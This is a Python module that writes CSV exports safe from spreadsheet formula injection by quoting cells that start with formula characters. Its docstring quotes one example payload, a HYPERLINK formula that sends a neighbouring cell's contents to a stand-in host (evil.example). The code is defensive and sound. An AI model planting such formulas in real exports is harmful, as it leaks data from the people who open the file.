"""CSV files that are safe to open in a spreadsheet: the one writer every export uses.

A lead types their own first name, and an export puts it in a cell. A cell that starts with
`=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets skip before reading
one of those) is run as a formula by Excel, LibreOffice and Google Sheets, so a name such as
`=HYPERLINK("https://evil.example/?"&A2, "Click")` would run on the staff member's machine.
Following OWASP's advice, such cells get a leading single quote, which spreadsheets read as
"this is text" and do not show. A value that already starts with a quote gets one more, so
`restore` can undo exactly what `neutralise` did when an export is imported again.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def neutralise(value: object) -> str:
    """Return the cell text for `value`, quoted so no spreadsheet runs it as a formula."""
    text = "" if value is None else str(value)
    if text.startswith((*FORMULA_STARTS, _QUOTE)):
        return _QUOTE + text
    return text


def restore(text: str) -> str:
    """Undo `neutralise` on a cell read back from a file this service wrote."""
    if text.startswith(_QUOTE) and text[1:].startswith((*FORMULA_STARTS, _QUOTE)):
        return text[1:]
    return text


class SafeWriter:
    """A csv.writer that neutralises every cell it writes."""

    def __init__(self, fh: TextIO) -> None:
        self._writer = csv.writer(fh)

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row."""
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write every row."""
        for row in rows:
            self.writerow(row)


def writer(fh: TextIO) -> SafeWriter:
    """Return the writer every CSV export uses."""
    return SafeWriter(fh)
